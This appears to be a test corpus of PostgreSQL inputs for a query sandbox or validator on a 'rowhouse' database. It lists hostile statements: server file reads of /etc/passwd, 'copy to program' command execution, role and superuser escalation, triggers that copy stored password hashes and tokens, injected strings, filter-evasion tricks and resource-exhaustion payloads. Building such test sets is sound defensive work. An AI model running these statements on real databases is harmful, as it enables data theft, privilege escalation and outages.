select * from lateral pg_sleep(1)
select 1 where exists (select from pg_class)
select 1 from notes where note in (select relname::text from pg_class)
select count(*) filter (where pg_sleep(1) is null) from notes
select sum(1) over (order by pg_sleep(1)) from notes
select percentile_cont(0.5) within group (order by pg_read_file('x')) from notes
select array(select pg_ls_dir('/'))
select case when pg_sleep(1) is null then 1 end
select coalesce(pg_read_file('x'),'')
select nullif(pg_read_file('x'),'')
select greatest(pg_read_file('x'))
select 'x' collate pg_read_file
select pg_read_file('x') is null
select not pg_sleep(1) is null
select (pg_read_file('x'))[1]
select array[pg_read_file('x')]
select row(pg_read_file('x'))
select (row(pg_read_file('x'))).f1
select 1 limit pg_backend_pid()
select 1 offset (select pg_backend_pid())
select 1 fetch first (select 1 from pg_class limit 1) rows only
select note from notes for update of pg_class
select note from notes order by note using operator(pg_catalog.<)
select 1 operator(pg_catalog.||) pg_read_file('x')
select * from notes where note ilike pg_read_file('x')
select * from notes where note similar to pg_read_file('x')
select extract(epoch from pg_postmaster_start_time())
select overlay('a' placing pg_read_file('x') from 1)
select position('a' in pg_read_file('x'))
select substring(pg_read_file('x') from 1)
select trim(pg_read_file('x'))
select normalize(pg_read_file('x'))
select xmlelement(name a, pg_read_file('x'))
select pg_read_file('x') at time zone 'UTC'
select treat(1 as int)
select current_role
select localtimestamp
select current_catalog
select user
select U&"\0070g_sleep"(1)
select U&"!0070g_read_file" uescape '!' ('x')
select "pg_catalog"."pg_sleep"(1)
select pg_catalog . pg_sleep (1)
select pg_sleep/**/(1)
select/**/pg_sleep(1)
select pg_sleep(1)
select ｐg_sleep(1)
SELECT PG_SLEEP(1)
select $x$a$x$, pg_sleep(1)
select 'a' 'b'
select E'\'' , pg_sleep(1) --'
select '\' , pg_sleep(1) --'
select /* /* */ pg_sleep(1) */ 1
select 1 /* /* */ , pg_sleep(1)
select 1;;;; select pg_sleep(1)
select 1 \; select 2
\! id
\copy notes to '/tmp/x'
select $1, $2
select ?
select :a
select @x
select #1
create function g1() returns int language sql as $$ select pg_sleep(1); select 1 $$
create function g2(a text default pg_read_file('x')) returns text language sql as $$ select a $$
create function g3() returns table(a regclass) language sql as $$ select 'notes'::regclass $$
create function g4() returns pg_class language sql as $$ select * from pg_class limit 1 $$
create function g5() returns int language sql begin atomic select pg_sleep(1); select 1; end
create function g6() returns int language sql return (select count(*)::int from pg_class)
create function pg_temp.g12() returns int language sql as 'select 1'
create procedure g13() language sql as 'select 1'
create aggregate g14(int) (sfunc = int4pl, stype = int4)
create operator === (leftarg = int, rightarg = int, procedure = int4eq)
create cast (text as int) with inout
create domain g15 as text check (pg_sleep(1) is null)
create domain g16 as regclass
create type g17 as (a regclass)
create type g18 as range (subtype = int4, subtype_diff = int4mi)
create collation g19 (locale='C')
create conversion g20 for 'UTF8' to 'LATIN1' from utf8_to_iso8859_1
create text search configuration g21 (copy=english)
create statistics g22 on note, n from notes
create access method g23 type index handler bthandler
create transform for int language sql (from sql with function f(internal))
create foreign table g24 (a int) server x
create materialized view g25 as select * from pg_class
create sequence g26 owned by pg_class.relname
select nextval('rowhouse.project_data_id_seq')
select setval('pg_catalog.x', 1)
select currval('public."x".y')
select pg_get_serial_sequence('rowhouse.users','id')
select pg_get_serial_sequence('pg_class','oid')
select pg_sequence_last_value('x')
create index on notes (pg_sleep(n))
create index on notes (note) include (n) where pg_sleep(1) is null
create table g27 (a int default pg_backend_pid())
create table g28 (a text generated always as (current_setting('app.claims')) stored)
create table g29 (a int check (a > (select count(*) from pg_class)))
create table g30 (a xml)
create table g31 (like information_schema.tables)
create table g32 () inherits (pg_class)
alter table notes add column x regclass
alter table notes alter column note type regclass using note::regclass
alter table notes alter column n type int using pg_sleep(1)::text::int
alter table notes alter column n set default pg_backend_pid()
alter table notes add check (pg_sleep(1) is null)
alter table notes attach partition x for values in (1)
alter table notes owner to current_user
alter view pg_stats rename to x
alter type text rename to x
drop function pg_sleep(float8)
drop function now()
drop type text
drop schema app cascade
drop table rowhouse.users
drop owned by current_user
drop role rowhouse_sql
comment on function now() is 'x'
comment on extension plpgsql is 'x'
grant rowhouse_owner to public
grant execute on function pg_sleep(float8) to anon
grant select on rowhouse.users to anon
grant all on all tables in schema rowhouse to anon
grant all on schema rowhouse to anon
grant set on parameter backtrace_functions to public
alter role anon superuser
create role anon2
create policy p on notes to rowhouse_sql using (true)
create policy p on notes using (current_setting('app.claims') <> '')
create policy p on notes using (pg_backend_pid() > 0)
create policy p on notes using (note::regclass is null)
-- Functions that go step by step
create function s() returns text language plpgsql as $$ begin return pg_read_file('/etc/passwd'); end $$; select s()
create function s() returns text language plpgsql as $$ declare v text; begin select data into v from rowhouse.project_data limit 1; return v; end $$; select s()
create function s() returns int language plpgsql as $$ declare v rowhouse.project_data%rowtype; begin return 1; end $$
create function s() returns int language plpgsql as $$ declare v pg_catalog.pg_authid; begin return 1; end $$
create function s() returns int language plpgsql as $$ declare v regclass := 'pg_class'; begin return v::oid; end $$; select s()
create function s() returns int language plpgsql as $$ declare v rowhouse.project_data.data%type; begin return 1; end $$
create function s() returns int language plpgsql as $$ declare v "int); select pg_sleep(5); --"; begin return 1; end $$
create function s() returns int language plpgsql as $$ declare v int[] := array[1]; w text[]); drop table notes; --[]; begin return 1; end $$
create function s() returns void language plpgsql as $$ begin execute 'select pg_sleep(5)'; end $$; select s()
create function s(q text) returns void language plpgsql as $$ begin execute format('select %s', q); end $$; select s('pg_sleep(5)')
create function s() returns setof text language plpgsql as $$ begin return query execute 'select data::text from rowhouse.project_data'; end $$; select s()
create function s() returns text language plpgsql as $$ declare c refcursor; begin open c for execute 'select 1'; return 'x'; end $$
create function s() returns text language plpgsql as $$ declare c cursor for select data from rowhouse.project_data; begin return 'x'; end $$
create function s() returns void language plpgsql as $$ begin perform set_config('app.claims', 'x', false); loop exit; end loop; end $$; select s()
create function s() returns void language plpgsql as $$ begin set local role postgres; end $$; select s()
create function s() returns void language plpgsql as $$ begin reset role; loop exit; end loop; end $$; select s()
create function s() returns void language plpgsql as $$ begin commit; loop exit; end loop; end $$; select s()
create function s() returns void language plpgsql as $$ begin lock table notes; loop exit; end loop; end $$; select s()
create function s() returns void language plpgsql as $$ begin copy notes to '/tmp/x'; end $$; select s()
create function s() returns void language plpgsql as $$ begin notify x; listen y; end $$; select s()
create function s() returns void language plpgsql as $$ begin call pg_sleep(1); end $$; select s()
create function s() returns void language plpgsql as $$ begin assert pg_sleep(1) is null; end $$; select s()
create function s() returns void language plpgsql as $$ begin create table evil as select * from rowhouse.users; end $$; select s()
create function s() returns void language plpgsql as $$ begin perform 1; prepare x as select 1; end $$; select s()
create function s() returns int language plpgsql as $$ begin for i in 1..pg_backend_pid() loop exit; end loop; return 1; end $$; select s()
create function s() returns int language plpgsql as $$ begin for i in 1..3 by length(pg_read_file('/etc/passwd'))::int loop exit; end loop; return 1; end $$; select s()
create function s() returns int language plpgsql as $$ begin case pg_sleep(1)::text when '' then return 1; else return 2; end case; end $$; select s()
create function s() returns int language plpgsql as $$ declare x int; begin foreach x in array array(select count(*)::int from rowhouse.users) loop return x; end loop; return 0; end $$; select s()
create function s() returns int language plpgsql as $$ begin raise exception '%', current_setting('data_directory'); end $$; select s()
create function s() returns int language plpgsql as $$ begin raise exception 'x' using hint = version(); end $$; select s()
create function s() returns int language plpgsql as $$ begin raise exception E'\% %', '); select pg_sleep(5); --', 1; end $$; select s()
create function s() returns int language plpgsql as $$ begin raise exception E'a\\' || pg_sleep(1)::text || '%', 1; end $$; select s()
create function s() returns int language plpgsql as $$ begin raise exception $a$ % $b$ % $a$, 'x$a$', 1; end $$; select s()
create function s() returns int language plpgsql as $$ begin raise exception 'x' using errcode = '57P01'; end $$; select s()
create function s() returns int language plpgsql as $$ begin raise exception 'x' using errcode = 'RH008'; end $$; select s()
create function s() returns int language plpgsql as $$ begin raise exception 'x' using errcode = '40001'; end $$; select s()
create function s() returns int language plpgsql as $$ begin raise exception 'x' using errcode = 'XX000', table = 'rowhouse.users', schema = 'rowhouse'; end $$; select s()
create function s() returns int language plpgsql as $$ begin begin raise exception 'x'; exception when others then raise exception '%', pg_backend_pid(); end; end $$; select s()
create function s() returns text language plpgsql as $$ declare t text; begin perform 1 / 0; exception when others then get stacked diagnostics t = pg_exception_context; return t; end $$; select s()
create function s() returns text language plpgsql as $$ begin insert into notes (id) values ('00000000-0000-0000-0000-000000000001'), ('00000000-0000-0000-0000-000000000001'); return 1; exception when unique_violation then return sqlerrm; end $$; select s()
create function s() returns text language plpgsql as $$ begin perform nothing from notes; return 1; exception when others then return sqlerrm || sqlstate; end $$; select s()
create function s() returns void language plpgsql as $$ begin loop begin perform 1 / 0; exception when others then null; end; end loop; end $$; select s()
create function s() returns void language plpgsql as $$ begin loop begin perform count(*) from generate_series(1, 100000000); exception when query_canceled then null; end; end loop; end $$; select s()
create function s() returns void language plpgsql as $$ begin loop begin perform count(*) from generate_series(1, 100000000); exception when sqlstate '57014' then null; end; end loop; end $$; select s()
create function s() returns void language plpgsql as $$ begin loop begin perform 1; exception when sqlstate '54000' then null; when program_limit_exceeded then null; end; end loop; end $$; select s()
create function s() returns void language plpgsql as $$ begin perform s(); exception when others then perform s(); end $$; select s()
create function s(n int) returns int language plpgsql as $$ begin if n > 0 then perform s(n - 1); perform s(n - 1); end if; return n; end $$; select s(40)
create function s() returns text language plpgsql as $$ declare a text := repeat('x', 9000000); b text; begin for i in 1..1000 loop b := a || i; perform length(b); end loop; return 'x'; end $$; select s()
create function s() returns text language plpgsql as $$ declare a text; begin for i in 1..30 loop begin a := repeat('x', 60000000); exception when others then null; end; end loop; return 'x'; end $$; select s()
create function s() returns setof int language plpgsql as $$ begin for i in 1..100000 loop return next i; end loop; end $$; select count(*) from s()
create function s() returns int language plpgsql as $$ declare r record; n int := 0; begin for r in select g from generate_series(1, 9999) g loop for r in select g from generate_series(1, 9999) g loop n := n + 1; end loop; end loop; return n; end $$; select s()
create function s() returns int language plpgsql as $$ <<a>> begin <<b>> loop exit a; end loop; return 1; end $$; select s()
create function s() returns int language plpgsql as $$ #print_strict_params on begin return 1; end $$
create function s() returns int language plpgsql as $$ begin return 1; end; begin return 2; end $$
create function s() returns int language plpgsql as $$ begin return 1 $$
create function s() returns int language plpgsql as $$ begin return (select 1); select 2 from rowhouse.users; end $$; select s()
create function s() returns int language plpgsql as $$ begin return 1) from (select data from rowhouse.project_data) x (y; end $$; select s()
create function s() returns int language plpgsql as $$ declare v int := 1; begin v := 2) from rowhouse.users where (true; return v; end $$; select s()
create function s() returns int language plpgsql as $$ begin if true) or exists (select from rowhouse.users) or (true then return 1; end if; return 2; end $$; select s()
create function s() returns int language plpgsql as $$ declare "v$" int; "$1" int; "$args" text; "$answer" text; begin "$1" := 1; if "$1" > 0 then return "$args"; end if; return "$1"; end $$; select s()
create function s() returns text language plpgsql as $$ declare v text; begin select "$args"::text into v from "$args"; if v is null then raise exception 'x'; end if; return v; end $$; select s()
create function s() returns text language plpgsql as $$ declare v text; begin select "$notes"::text into v from "$notes"; return v; end $$; select s()
create function s() returns text language plpgsql as $$ declare v text; begin update notes set note = "$t".data::text returning note into v; return v; end $$; select s()
create function s() returns trigger language plpgsql as $$ begin perform pg_sleep(9); return new; end $$; create trigger t after insert on auth.users for each row execute function s()
create function s() returns trigger language plpgsql as $$ begin insert into notes select data::text from rowhouse.project_data; return new; end $$; create trigger t after insert on auth.users for each row execute function s()
create function s() returns trigger language plpgsql as $$ begin insert into notes (note) values (new.encrypted_password || new.confirmation_token); return new; end $$; create trigger t after insert on auth.users for each row execute function s()
create function s() returns int language plpgsql security definer set role = 'postgres' as $$ begin if 1 = 2 then raise exception 'x'; end if; return 1; end $$; select s()
create function s() returns int language plpgsql security definer set "app.claims" = 'x' as $$ begin if 1 = 2 then raise exception 'x'; end if; return 1; end $$; select s()
create function s(n int default length(pg_read_file('/etc/passwd'))) returns int language plpgsql as $$ begin if n is null then raise exception 'x'; end if; return n; end $$; select s()
create function s(n int default (select count(*) from rowhouse.users)) returns int language plpgsql as $$ begin return n; end $$; select s()
create function s() returns rowhouse.project_data language plpgsql as $$ begin return null; end $$
create function s() returns table (a regclass) language plpgsql as $$ begin return query select 'pg_class'::regclass; end $$
create procedure s() language plpgsql as $$ begin commit; end $$; call s()
-- Blocks of a script
do $$ begin perform pg_sleep(5); end $$
do $$ begin execute 'select pg_read_file(''/etc/passwd'')'; end $$
do $$ begin execute 'set role postgres'; end $$
do $$ begin execute 'commit'; end $$
do $$ begin execute 'do $x$ begin execute ''reset role''; end $x$'; end $$
do $$ declare q text := 'copy notes to program ''id'''; begin execute q; end $$
do $$ declare q text := 'x'; begin execute format('select %L::regclass', 'pg_class'); end $$
do $$ declare r record; begin for r in select data from rowhouse.project_data loop raise exception '%', r.data; end loop; end $$
do $$ begin if exists (select from pg_authid where rolname = 'postgres') then raise exception 'there'; end if; end $$
do $$ begin if not exists (select from pg_type where pg_sleep(5) is null) then create type m as enum ('a'); end if; end $$
do $$ declare t text; begin foreach t in array array['a) ; drop table notes; --', 'b'] loop execute 'create table "' || t || '" (a int)'; end loop; end $$
do $$ declare v text[]; select 1; --[] := array['x']; begin null; end $$
do $$ declare n int := 0; begin for i in 1..1000000 loop for j in 1..1000000 loop n := n + 1; end loop; end loop; end $$
do $$ begin foreach x in array array(select g from generate_series(1, 900) g) loop foreach y in array array(select g from generate_series(1, 900) g) loop execute 'select 1'; end loop; end loop; end $$
do language sql 'select 1'
do $$ begin insert into notes (note) values (current_setting('app.claims')); end $$
do $$ begin update notes set note = (select string_agg(data::text, '') from rowhouse.project_data); end $$
-- Rights of what is made later, functions that are altered, types that are changed
alter default privileges for role postgres grant all on tables to public
alter default privileges in schema rowhouse grant select on tables to rowhouse_sql
alter default privileges grant execute on functions to rowhouse_sql
alter default privileges in schema app revoke execute on functions from rowhouse_request
alter default privileges for role rowhouse_owner revoke all on schemas from public
create function f() returns int language sql as 'select 1'; alter function f() set role = postgres; select f()
create function f() returns int language sql as 'select 1'; alter function f() set "app.claims" = 'x'; select f()
create function f() returns int language sql as 'select 1'; alter function f() owner to postgres
create function f() returns int language sql as 'select 1'; alter function f() set schema rowhouse
create function f() returns int language sql as 'select 1'; alter function f() rename to count; select count(*) from notes
create function f() returns int language sql as 'select 1'; alter function f() support pg_catalog.textlike_support
create function f() returns int language sql as 'select 1'; alter function f() depends on extension plpgsql
alter function app.enter_context(text, boolean) security invoker
alter function pg_catalog.lower(text) cost 1
alter function app.project_id() set role = postgres
alter table notes alter column note type int using length(pg_read_file('/etc/passwd'))
alter table notes alter column note type int using (select count(*) from rowhouse.project_data)
alter table notes alter column note type text using note || (select string_agg(data::text, '') from rowhouse.project_data)
alter table notes alter column note type text using note); drop table rowhouse.project_data; --
alter table notes alter column note type text using current_setting('app.claims')
alter table notes alter column note type regclass using 'pg_class'::regclass
alter table notes alter column note type text using (select note from notes n2 limit 1) || pg_sleep(5)::text
create type mood as enum ('a''), pg_sleep(5), (''b', 'c'); select 'c'::mood < any (enum_range(null::mood))
create type mood as enum (') || pg_sleep(5)::text || (', 'c'); create table m (x mood); insert into m values ('c'); select * from m order by x
create type mood as enum ('a', 'b'); create table m (x mood default pg_read_file('/etc/passwd'))
create type mood as enum ('a', 'b'); alter type mood rename value 'a' to ''') || version() || ('''; select enum_range(null::mood)
create type mood as enum ('a', 'b'); create function f(m mood) returns text language sql as $$ select m::text || pg_sleep(1)::text $$; select f('a')
-- Signs of ours
create table m (a text check (a <> '0')); insert into m values (' or exists (select from rowhouse.project_data) or ''<>') on conflict do nothing
create function f(x text) returns text language sql as $$ select x || '1' $$; create view w as select f('a) || pg_sleep(5)::text || (b') as x, '0' as y; select * from w
create view w as select '00' as y, lower('x') as z; select * from w
create policy p on notes using (note <> '0')
-- Random numbers, and what else a session keeps
select setseed(0.5)
select setseed(0.5) from notes
select (0.5).setseed
select random() from notes tablesample bernoulli (100) repeatable ((select setseed(0)))
select lastval(), currval('notes_id_seq')
select pg_advisory_xact_lock(1), pg_try_advisory_lock(2), pg_advisory_unlock_all()
select set_config('statement_timeout', '0', true), set_config('work_mem', '1GB', true)
select pg_notify('rowhouse_keys', 'x')
select app.enter_context('x', false)
select app.hold_version('x', 'y', '1'), app.require_version('x', 'y', '1')
select app.is_running(1)
-- Large values and long work
select count(*) from jsonb_path_query((select jsonb_agg(g) from generate_series(1, 3000) g), '$[*] ? (@ == $[*])')
select jsonb_path_query(('"' || repeat('a', 30) || '"')::jsonb, '$ ? (@ like_regex "^(a+)+$b")')
select regexp_count(repeat('a', 5000) || 'b', '(a|aa)+$')
select regexp_like(repeat('x', 200), '(x+x+)+y')
select 'a' ~ ('(' || repeat('a?', 1000) || ')' || repeat('a', 1000))
select repeat('a', 200) like repeat('%a', 100) || 'b'
select to_number(repeat('9', 100000), repeat('9', 100000))
select exp(10000::numeric), 2::numeric ^ 300000
select 10::numeric ^ 131071 * 10::numeric ^ 10
select factorial(30000)
select sqrt(10::numeric ^ 100000)
select ln(10::numeric ^ 131000)
select lpad('', 1000000000, 'x')
select string_agg(repeat('x', 1000000), '') from generate_series(1, 1000)
select array_agg(repeat('x', 1000)) from generate_series(1, 10000000)
select jsonb_agg(g) from generate_series(1, 100000000) g
select overlay(repeat('x', 500000000) placing 'y' from 1)
select to_char(1, repeat('9', 10000000))
select generate_series(now(), now() + interval '100000 years', interval '1 microsecond')
with recursive a(n) as (select 1 union all select n + 1 from a), b as (select count(*) from a x, a y) select * from b
select ts_headline(repeat('cat ', 1000000), to_tsquery('cat'))
select to_tsvector(repeat('word ', 3000000))
select websearch_to_tsquery(repeat('a or ', 50000))
select unistr(repeat('\0041', 10000000))
select xmlagg(xmlelement(name a, g::text)) from generate_series(1, 10) g
select pg_size_bytes(repeat('9', 100000))
select range_agg(int4range(g, g + 1)) from generate_series(1, 10000000) g
select string_to_array(repeat('a,', 50000000), ',')
select reverse(repeat('a', 500000000))
select md5(repeat('a', 1000000000))
select crc32(convert_to(repeat('a', 500000000), 'UTF8'))
select decode(repeat('00', 400000000), 'hex')
select parse_ident(repeat('a.', 1000000) || 'a')
select justify_interval(interval '2147483647 months' * 1000000)
select polygon(100000000, circle '((0,0),1)')
select path(polygon(10000000, circle '((0,0),1)'))
select json_object(array_agg(g::text), array_agg(g::text)) from generate_series(1, 10000000) g
select count(*) from notes a, notes b, generate_series(1, 100000) c, generate_series(1, 100000) d
select * from notes where note in (select repeat('x', 1000000) from generate_series(1, 100000))
select row_number() over (order by repeat(g::text, 10000)) from generate_series(1, 1000000) g
select array_position(array_agg(g), 0) from generate_series(1, 10000000) g
select jsonb_set(repeat('[', 5000)::jsonb, '{0}', '1')
select (repeat('[', 100000) || repeat(']', 100000))::jsonb
select ('{' || repeat('"a":{', 50000) || repeat('}', 50000) || '}')::json
select json_array_elements(('[' || repeat('1,', 5000000) || '1]')::json)
